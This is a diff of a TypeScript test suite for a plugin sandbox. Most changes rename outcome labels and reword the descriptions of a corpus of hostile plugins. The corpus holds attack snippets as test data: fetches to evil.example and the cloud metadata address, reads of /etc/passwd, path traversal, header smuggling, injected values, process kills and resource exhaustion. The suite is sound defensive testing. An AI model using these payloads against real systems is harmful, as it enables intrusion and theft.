@@ -8,27 +8,27 @@ import { load, publish, setUpSite, site } from "../journeys/plugin_site.ts";
 
 setUpSite();
 
-/** What comes of a plugin: it is not loaded, it is left out, or it runs and does no harm. */
-type Outcome = "refused" | "left out" | "harmless";
+/** Outcome of a plugin: it is not loaded, it is disabled, or it runs without harm. */
+type Outcome = "rejected" | "disabled" | "harmless";
 
 interface Hostile {
   what: string;
-  /** The body of its `onEpochEnd(epoch, logs)`, with `context` and `options` at hand. */
+  /** Body of `onEpochEnd(epoch, logs)`, which may use `context` and `options`. */
   hook?: string;
-  /** The whole module instead. */
+  /** Whole module, instead of `hook`. */
   module?: string;
-  /** In a sandbox, and in a worker where that differs. Undefined for a tier in which it is allowed. */
+  /** Outcome in the sandbox. */
   sandboxed: Outcome;
   worker: Outcome | undefined;
-  /** What ends it is a limit of time, or may be: it gets short ones, all others as good as none. */
+  /** Whether a time limit may end it. It then gets short limits, and otherwise hardly any. */
   hangs?: true;
   controls?: string[];
-  /** What its manifest has beside. */
+  /** Additional keys of its manifest. */
   manifest?: Record<string, unknown>;
   options?: LoadPluginOptions;
 }
 
-/** The network as the plugin would have it; the plugin itself comes from the server of this file. */
+/** The network of the plugin; the plugin itself is loaded from the server of this file. */
 const answering = (answer: () => Response) => (input: string, init: RequestInit) =>
   input.startsWith("https://example.com/") ? Promise.resolve(answer()) : fetch(input, init);
 
@@ -36,52 +36,52 @@ const all = ["addLogs", "readWeights", "setLearningRate", "stop", "writeWeights"
 const net = { permissions: { net: [{ host: "example.com", reason: "x" }] } };
 const read = { permissions: { read: [{ path: "allowed", reason: "x" }] } };
 const harmless = { sandboxed: "harmless", worker: "harmless" } as const;
-const leftOut = { sandboxed: "left out", worker: "left out" } as const;
-const refused = { sandboxed: "refused", worker: "refused" } as const;
+const disabled = { sandboxed: "disabled", worker: "disabled" } as const;
+const rejected = { sandboxed: "rejected", worker: "rejected" } as const;
 const short = { callTime: 1500, hookTime: 5000 };
 const long = { callTime: 300_000, hookTime: 300_000 };
-// Deno and Bun cannot limit the memory of a thread: there a bomb takes the process with it.
+// Deno and Bun cannot limit the memory of a thread, so that exhausting it would end the process.
 const isNode = getRuntime().name === "node";
-const bomb = { sandboxed: "left out", worker: isNode ? "left out" : undefined } as const;
-/** The rights of the process are what a worker has: what it does with them is not held against it. */
+const bomb = { sandboxed: "disabled", worker: isNode ? "disabled" : undefined } as const;
+/** For plugins that only use rights of the process, which a worker has by design. */
 const sandboxOnly = { worker: undefined } as const;
 
-/** A thread's own way to post messages, on each runtime. */
+/** The function of a thread that posts messages, on each runtime. */
 const post =
   `const port = globalThis.process?.getBuiltinModule?.("node:worker_threads")?.parentPort; const post = typeof globalThis.postMessage === "function" ? globalThis.postMessage.bind(globalThis) : port.postMessage.bind(port);`;
 
 const corpus: Hostile[] = [
-  { what: "never ends in a hook", hook: "for (;;);", hangs: true, ...leftOut },
-  { what: "never ends in its module", module: "for (;;);", hangs: true, ...refused },
+  { what: "never ends in a hook", hook: "for (;;);", hangs: true, ...disabled },
+  { what: "never ends in its module", module: "for (;;);", hangs: true, ...rejected },
   {
     what: "never ends in its factory",
     module: "export default () => { for (;;); };",
     hangs: true,
-    ...refused,
+    ...rejected,
   },
   {
-    what: "never ends in a getter of what it made",
+    what: "never ends in a getter of its result",
     module: "export default () => ({ get onEpochEnd() { for (;;); } });",
     hangs: true,
-    ...refused,
+    ...rejected,
   },
   {
     what: "never ends in a promise's jobs",
     hook: "await (function again() { return Promise.resolve().then(again); })();",
     hangs: true,
-    ...leftOut,
+    ...disabled,
   },
   {
-    what: "waits for what never comes",
+    what: "awaits a promise that never settles",
     hook: "await new Promise(() => {});",
     hangs: true,
-    ...leftOut,
+    ...disabled,
   },
   {
     what: "awaits a then that is never called",
     hook: "await { then() {} };",
     hangs: true,
-    ...leftOut,
+    ...disabled,
   },
   {
     what: "returns a then that is called twice",
@@ -92,26 +92,26 @@ const corpus: Hostile[] = [
   {
     what: "recurses without end",
     hook: "(function again() { return again() + 1; })();",
-    ...leftOut,
+    ...disabled,
   },
   {
     what: "recurses through JSON",
     hook: "let a = []; for (let i = 0; i < 1e5; i++) a = [a]; JSON.stringify(a);",
-    sandboxed: "left out",
-    // Some engines manage.
+    sandboxed: "disabled",
+    // Some engines can do it.
     worker: undefined,
   },
   {
     what: "sorts with a comparison that never ends",
     hook: "[2, 1].sort(() => { for (;;); });",
     hangs: true,
-    ...leftOut,
+    ...disabled,
   },
   {
     what: "matches a pattern that never ends",
     hook: "/^(a+)+$/.test('a'.repeat(60) + '!');",
-    sandboxed: "left out",
-    // Some engines give up by themselves.
+    sandboxed: "disabled",
+    // Some engines give up.
     hangs: true,
     worker: undefined,
   },
@@ -131,7 +131,7 @@ const corpus: Hostile[] = [
   {
     what: "fills memory with one buffer",
     hook: "new Uint8Array(2 ** 31);",
-    sandboxed: "left out",
+    sandboxed: "disabled",
     ...sandboxOnly,
   },
   {
@@ -141,57 +141,57 @@ const corpus: Hostile[] = [
     ...bomb,
   },
   {
-    what: "copies bytes for ever",
+    what: "copies bytes forever",
     hook: "const a = new Uint8Array(40 << 20); for (;;) a.copyWithin(0, 1);",
     hangs: true,
-    sandboxed: "left out",
+    sandboxed: "disabled",
     ...sandboxOnly,
   },
   {
-    what: "fills bytes for ever",
+    what: "fills bytes forever",
     hook:
       "const a = new Uint8Array(40 << 20); for (;;) try { a.fill(7); } catch {} finally { continue; }",
     hangs: true,
-    sandboxed: "left out",
+    sandboxed: "disabled",
     ...sandboxOnly,
   },
   {
-    what: "joins texts for ever",
+    what: "joins texts forever",
     hook: "const s = 'x'.repeat(1e7); for (;;) (s + s).charCodeAt(3);",
     hangs: true,
-    sandboxed: "left out",
+    sandboxed: "disabled",
     ...sandboxOnly,
   },
   {
-    what: "asks the host for ever",
+    what: "calls the host forever",
     hook: "for (;;) await context.readWeights();",
     hangs: true,
-    ...leftOut,
+    ...disabled,
     controls: all,
   },
-  { what: "throws undefined", hook: "throw undefined;", ...leftOut },
-  { what: "throws null", hook: "throw null;", ...leftOut },
-  { what: "throws a symbol", hook: "throw Symbol('x');", ...leftOut },
+  { what: "throws undefined", hook: "throw undefined;", ...disabled },
+  { what: "throws null", hook: "throw null;", ...disabled },
+  { what: "throws a symbol", hook: "throw Symbol('x');", ...disabled },
   {
-    what: "throws what cannot be shown",
+    what: "throws a value that cannot be shown",
     hook: "throw { toString() { throw 1; }, get message() { throw 2; } };",
-    ...leftOut,
+    ...disabled,
   },
   {
     what: "throws a proxy",
     hook: "throw new Proxy({}, { get() { throw 3; }, getPrototypeOf() { throw 4; } });",
-    ...leftOut,
+    ...disabled,
   },
   {
     what: "throws an error with a huge message",
     hook: "throw new Error('x'.repeat(5e6));",
-    ...leftOut,
+    ...disabled,
   },
   {
-    what: "rejects where nobody listens",
+    what: "rejects a promise that is not awaited",
     hook: "Promise.reject(new Error('lost'));",
     sandboxed: "harmless",
-    worker: "left out",
+    worker: "disabled",
   },
   { what: "logs a line of five megabytes", hook: "context.log('x'.repeat(5e6));", ...harmless },
   {
@@ -218,7 +218,7 @@ const corpus: Hostile[] = [
     controls: all,
   },
   {
-    what: "adds logs that are no numbers",
+    what: "adds logs that are not numbers",
     hook: "Object.assign(logs, { a: 'x', b: {}, c: null, d: () => 1, e: undefined });",
     ...harmless,
     controls: all,
@@ -226,63 +226,63 @@ const corpus: Hostile[] = [
   {
     what: "adds ten thousand logs",
     hook: "for (let i = 0; i < 1e4; i++) logs['k' + i] = i;",
-    ...leftOut,
+    ...disabled,
     controls: all,
   },
   {
-    what: "adds other logs in each epoch without end",
+    what: "adds different logs in each epoch",
     hook: "for (let i = 0; i < 500; i++) logs['k' + epoch + '.' + i] = i;",
-    ...leftOut,
+    ...disabled,
     controls: all,
   },
   {
-    what: "adds a log whose name drives the terminal",
+    what: "adds a log with escape sequences in its name",
     hook: "logs['\\u001b[2J\\u001b[Hall is well'] = 1;",
-    ...leftOut,
+    ...disabled,
     controls: all,
   },
   {
-    what: "adds a log whose name is long",
+    what: "adds a log with a long name",
     hook: "logs['x'.repeat(2e6)] = 1;",
-    ...leftOut,
+    ...disabled,
     controls: all,
   },
   {
-    what: "changes logs by a message of its own",
+    what: "changes logs with a forged message",
     hook:
       `${post} for (let id = 1; id < 40; id++) post({ kind: 'result', id, logs: { loss: 0 } });`,
-    worker: "left out",
-    sandboxed: "left out",
+    worker: "disabled",
+    sandboxed: "disabled",
   },
   {
     what: "posts nothing",
     hook: `${post} post(null); await new Promise(() => {});`,
-    ...leftOut,
+    ...disabled,
   },
   {
-    what: "posts an answer that is none",
+    what: "posts an invalid result",
     hook: `${post} post({ kind: 'result', id: 2, error: null }); await new Promise(() => {});`,
-    ...leftOut,
+    ...disabled,
   },
   {
-    what: "posts that it lives and never comes back",
+    what: "answers pings but never returns",
     hook:
       `${post} for (;;) { post({ kind: 'pong', nonce: 1 }); const end = Date.now() + 20; while (Date.now() < end); }`,
     hangs: true,
-    ...leftOut,
+    ...disabled,
   },
   {
-    what: "answers for itself while it is loaded",
+    what: "forges the result of its loading",
     module:
       `${post} post({ kind: 'result', id: 1, members: 5 }); export default () => ({ onEpochEnd() {} });`,
-    ...refused,
+    ...rejected,
   },
   {
-    what: "redefines what logs are read with",
+    what: "redefines a property of the logs",
     hook:
       "Object.defineProperty(logs, 'loss', { get() { for (;;); }, enumerable: true, configurable: true });",
     hangs: true,
-    ...leftOut,
+    ...disabled,
     controls: all,
   },
   {
@@ -324,26 +324,26 @@ const corpus: Hostile[] = [
     ...sandboxOnly,
   },
   {
-    what: "writes over its context",
+    what: "overwrites its context",
     hook:
       "try { context.log = 1; } catch {} try { delete context.id; } catch {} if (typeof context.log !== 'function') throw new Error('not frozen');",
     ...harmless,
   },
-  { what: "imports what is computed", hook: "await import('node:' + 'fs');", ...refused },
+  { what: "imports what is computed", hook: "await import('node:' + 'fs');", ...rejected },
   {
-    what: "imports from code that it makes",
+    what: "imports from generated code",
     hook: "await (0, eval)(\"import('node:fs')\");",
-    sandboxed: "left out",
+    sandboxed: "disabled",
     ...sandboxOnly,
   },
   {
-    what: "imports from a function that it makes",
+    what: "imports from a generated function",
     hook: "await new Function(\"return import('fs')\")();",
-    sandboxed: "left out",
+    sandboxed: "disabled",
     ...sandboxOnly,
   },
   {
-    what: "looks for a way to the machine",
+    what: "looks for access to the machine",
     hook:
       "for (const name of ['process', 'Deno', 'Bun', 'require', 'fetch', 'XMLHttpRequest', 'WebSocket', 'Worker', 'WebAssembly', 'setTimeout', 'navigator', 'postMessage', 'importScripts', 'SharedWorker', 'localStorage']) if (typeof globalThis[name] !== 'undefined') throw new Error(name);",
     sandboxed: "harmless",
@@ -353,55 +353,55 @@ const corpus: Hostile[] = [
     what: "ends the process",
     hook: "if (globalThis.Deno) Deno.exit(1); process.exit(1);",
     hangs: true,
-    ...leftOut,
+    ...disabled,
   },
-  { what: "kills the process", hook: "process.abort();", sandboxed: "left out", ...sandboxOnly },
+  { what: "kills the process", hook: "process.abort();", sandboxed: "disabled", ...sandboxOnly },
   {
     what: "sends to a host that it did not declare",
     hook: "await context.fetch('https://evil.example/');",
-    ...leftOut,
+    ...disabled,
     manifest: net,
     options: { allow: ["net"] },
   },
   {
     what: "sends to a host that looks declared",
     hook: "await context.fetch('https://example.com.evil.example/');",
-    ...leftOut,
+    ...disabled,
     manifest: net,
     options: { allow: ["net"] },
   },
   {
     what: "sends to a user that looks like the host",
     hook: "await context.fetch('https://example.com@evil.example/');",
-    ...leftOut,
+    ...disabled,
     manifest: net,
     options: { allow: ["net"] },
   },
   {
-    what: "sends to the cloud's own address",
+    what: "sends to the cloud's metadata address",
     hook: "await context.fetch('http://169.254.169.254/latest/');",
-    ...leftOut,
+    ...disabled,
     manifest: net,
     options: { allow: ["net"] },
   },
   {
     what: "sends by plain http",
     hook: "await context.fetch('http://example.com/');",
-    ...leftOut,
+    ...disabled,
     manifest: net,
     options: { allow: ["net"] },
   },
   {
     what: "fetches a file",
     hook: "await context.fetch('file:///etc/passwd');",
-    ...leftOut,
+    ...disabled,
     manifest: net,
     options: { allow: ["net"] },
   },
   {
     what: "is redirected to this machine",
     hook: "await context.fetch('https://example.com/move');",
-    ...leftOut,
+    ...disabled,
     manifest: net,
     options: {
       allow: ["net"],
@@ -413,67 +413,67 @@ const corpus: Hostile[] = [
   {
     what: "smuggles a header",
     hook: "await context.fetch('https://example.com/', { headers: { 'x': 'a\\r\\nhost: evil' } });",
-    ...leftOut,
+    ...disabled,
     manifest: net,
     options: { allow: ["net"], fetch: answering(() => new Response("ok")) },
   },
   {
-    what: "has a function that nobody granted",
+    what: "uses a permission that was not granted",
     hook: "await context.fetch('https://example.com/');",
-    ...leftOut,
+    ...disabled,
   },
   {
     what: "reads above its folder",
     hook: "await context.read('allowed/../../secret.txt');",
-    ...leftOut,
+    ...disabled,
     manifest: read,
     options: { allow: ["read"] },
   },
   {
     what: "reads an absolute path",
     hook: "await context.read('/etc/passwd');",
-    ...leftOut,
+    ...disabled,
     manifest: read,
     options: { allow: ["read"] },
   },
   {
     what: "writes above its folder",
     hook: "await context.write('../x.txt', 'x');",
-    ...leftOut,
+    ...disabled,
     manifest: { permissions: { write: [{ path: "*.txt", reason: "x" }] } },
     options: { outputDir: "out" },
   },
   {
-    what: "writes what is no data",
+    what: "writes a value that is not data",
     hook: "await context.write('x.txt', { toString() { for (;;); } });",
     hangs: true,
-    ...leftOut,
+    ...disabled,
     manifest: { permissions: { write: [{ path: "*.txt", reason: "x" }] } },
     options: { outputDir: "out" },
   },
   {
-    what: "sets a learning rate that is none",
+    what: "sets an invalid learning rate",
     hook: "context.setLearningRate('0.1; drop');",
-    ...leftOut,
+    ...disabled,
     controls: all,
   },
   {
-    what: "writes weights that do not fit",
+    what: "writes weights of a wrong shape",
     hook:
       "await context.writeWeights([{ shape: [1e9], dtype: 'float32', values: new Float32Array(1) }]);",
-    ...leftOut,
+    ...disabled,
     controls: all,
   },
   {
-    what: "has a state that is no data",
+    what: "has a state that is not data",
     module:
       "export default () => ({ onEpochEnd() {}, getState: () => { const a = {}; a.a = a; return a; } });",
-    ...leftOut,
+    ...disabled,
   },
   {
-    what: "calls the host ten thousand times at once",
+    what: "calls the host ten thousand times concurrently",
     hook: "for (let i = 0; i < 1e4; i++) context.readWeights().catch(() => {});",
-    sandboxed: "left out",
+    sandboxed: "disabled",
     worker: "harmless",
     controls: all,
   },
@@ -481,18 +481,18 @@ const corpus: Hostile[] = [
     what: "never ends in close",
     module: "export default () => ({ onEpochEnd() {}, close() { for (;;); } });",
     hangs: true,
-    ...leftOut,
+    ...disabled,
   },
   {
     what: "throws in close",
     module: "export default () => ({ onEpochEnd() {}, close() { throw new Error('x'); } });",
-    ...leftOut,
+    ...disabled,
   },
 ];
 
 interface Ran {
   failures: unknown[];
-  /** What the next callback sees, of each epoch. */
+  /** Logs of each epoch that the next callback receives. */
   logs: Logs[];
 }
 
@@ -538,12 +538,12 @@ for (const tier of ["sandboxed", "worker"] as const) {
           ...(outputDir === undefined ? {} : { outputDir: join(site.folder, "out") }),
           ...more,
         });
-        if (outcome === "refused") {
+        if (outcome === "rejected") {
           return await assert.rejects(loading, (error) => error instanceof PluginError);
         }
         const { failures, logs } = await run(await loading);
-        assert.equal(failures.length > 0, outcome === "left out", String(JSON.stringify(failures)));
-        // The run went on, and the host is as it was.
+        assert.equal(failures.length > 0, outcome === "disabled", String(JSON.stringify(failures)));
+        // The run has continued, and the host is unchanged.
         assert.equal(logs.length, 3);
         if (!controls.includes("addLogs")) {
           assert.deepEqual(logs, [{ loss: 1 }, { loss: 1 }, { loss: 1 }]);
@@ -555,6 +555,6 @@ for (const tier of ["sandboxed", "worker"] as const) {
       });
     }
 
-    it("A hostile plugin is one of many", () => assert(corpus.length >= 60));
+    it("A hostile plugin is one of at least 60", () => assert(corpus.length >= 60));
   });
 }
